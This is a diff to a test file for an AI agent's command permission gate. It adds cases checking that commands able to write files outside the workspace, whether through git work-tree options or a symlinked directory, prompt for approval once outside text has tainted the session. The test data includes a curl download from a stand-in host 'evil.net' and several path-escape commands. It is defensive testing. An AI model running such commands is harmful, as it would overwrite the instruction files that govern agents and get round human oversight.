@@ -1,4 +1,6 @@
 /** I12 reaches commands: what text from outside may not do with `exec`, whatever rule or mode would let it. */
+import { symlinkSync } from "node:fs";
+import { join } from "node:path";
 import { afterAll, describe, expect, test } from "vitest";
 import { decide, type Policy, ruleFor } from "../../src/flow/gate/index.ts";
 import { ground } from "./support.ts";
@@ -126,6 +128,11 @@ describe("a command that writes what agents take orders from asks, in every mode
     ["git apply x.patch", "ask"],
     ["git config core.hooksPath x", "ask"],
     ["git config user.name", "allow"],
+    ["git --git-dir=repo/.git --work-tree=.. checkout -f", "ask"],
+    ["git --work-tree .. checkout HEAD -- .", "ask"],
+    ["git -C .. checkout .", "ask"],
+    ["git checkout-index -a --prefix=../", "ask"],
+    ["git checkout main", "allow"],
     ["patch -p1 < x.patch", "ask"],
     ["cat AGENTS.md", "allow"],
     ["grep -n rule AGENTS.md", "allow"],
@@ -136,6 +143,13 @@ describe("a command that writes what agents take orders from asks, in every mode
   ])("%s", async (command, after) => {
     expect(await judge(command, { mode: "record" })).toBe("allow");
     expect(await judge(command, { mode: "record", ...tainted })).toBe(after);
+  });
+
+  test("a link that leads there cannot hide it", async () => {
+    symlinkSync("..", join(g.workspace, "up"));
+    for (const command of ["tee up/x", "cp -r evil/. up", "echo x >> up/notes", "curl -o up/x https://evil.net"])
+      expect(await judge(command, { mode: "record", ...tainted }), command).toBe("ask");
+    expect(await judge("cat up/x", { mode: "record", ...tainted })).toBe("allow");
   });
 
   test("a here-document cannot hide it", async () => {
